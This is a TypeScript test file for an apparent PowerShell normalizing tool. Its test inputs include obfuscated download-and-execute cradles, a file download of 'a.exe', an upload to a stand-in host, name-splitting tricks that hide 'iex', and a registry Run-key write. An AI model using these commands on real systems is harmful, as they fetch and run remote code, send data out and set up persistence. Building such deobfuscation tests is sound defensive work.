import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { linesOf, lowered, shown } from './shown.ts';

const sentences: [sentence: string, program: string, steps: string[]][] = [
  [
    'capitals and backticks change no name',
    'I`eX (IWR "http://x.test").Content',
    ['<"iex" <"iwr" "http://x.test">["content"]>'],
  ],
  [
    'a client of .NET fetches as a command does',
    "(New-Object Net.WebClient).DownloadString('http://x.test') | IEX",
    ['<"iex" < <"iwr" "http://x.test">>'],
  ],
  [
    'a client of .NET writes what it fetches',
    "$c.DownloadFile('http://x.test', 'a.exe')",
    ['<"iwr" "http://x.test" "-OutFile" "a.exe">'],
  ],
  ['a client of .NET sends', "$c.UploadString('http://x.test', $d)", ['<"irm" "-Uri" "http://x.test" "-Body" $d>']],
  [
    'base64 is decoded',
    '$t = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("aGk="))',
    ['$t = $atob("aGk=")'],
  ],
  ['a name is put together', "& ('i' + 'ex') $x", ['<"iex" $x>']],
  ['a format is filled in', "$s = '{1}{0}' -f 'b', 'a'", ['$s = "ab"']],
  [
    'characters are joined',
    '-join ([char]65, [char]66)',
    ['[$String["fromCharCode"]("65"), $String["fromCharCode"]("66")]["join"]("")'],
  ],
  ['a variable of the environment is read', 'a "k=$env:KEY"', ['<"a" ("k=" . $env["KEY"])>']],
  [
    'a started program has its arguments',
    "Start-Process -FilePath cmd.exe -ArgumentList '/c a', 'b'",
    ['<"cmd.exe" "/c" "a" "b">'],
  ],
  [
    'the registry is written',
    "Set-ItemProperty -Path 'HKCU:\\Run' -Name a -Value $p",
    ['"HKCU:\\\\Run" << $p', '<"set-itemproperty" "-Path" "HKCU:\\\\Run" "-Name" "a" "-Value" $p>'],
  ],
  ['output goes to a file', 'a > b.txt', ['"b.txt" << <"a">']],
  ['a block gets what is piped', 'gci | % { rm $_ }', ['fn(_) {give <"rm" $_>}(<"gci">)']],
  ['a function gives', 'function Foo($a) { return $a + "b" }', ['def foo {give ($a . "b")}']],
  ['branches may run', 'if ($a) { b } else { c }', ['$a', 'maybe {<"b">} or {<"c">}']],
];

describe('PowerShell', () => {
  it.each(sentences)('%s', async (_, program, steps) => {
    expect(await shown(program, 'powershell')).toEqual(steps);
  });

  it('is lowered whatever it says, in the same way, and within its lines', async () => {
    const tokens = fc.constantFrom(
      ...[
        'iex',
        '$x',
        '"',
        "'",
        '(',
        ')',
        '{',
        '}',
        '|',
        ';',
        '@{',
        '}',
        '@(',
        '[char]',
        '65',
        '-join',
        '-f',
        '+',
        '=',
        'if',
        'function',
        'foreach',
        '$env:A',
        '&',
        '.',
        '`n',
      ],
      '\n',
      ' ',
    );
    await fc.assert(
      fc.asyncProperty(fc.array(tokens, { maxLength: 40 }), async (parts) => {
        const text = `${parts.join(parts.length % 2 ? ' ' : '')}`;
        const program = await lowered(text, 'powershell', 3);
        expect(await lowered(text, 'powershell', 3)).toEqual(program);
        const last = text.split('\n').length + 2;
        for (const line of linesOf(program)) expect(line >= 3 && line <= last).toBe(true);
      }),
      { numRuns: 200 },
    );
  });
});
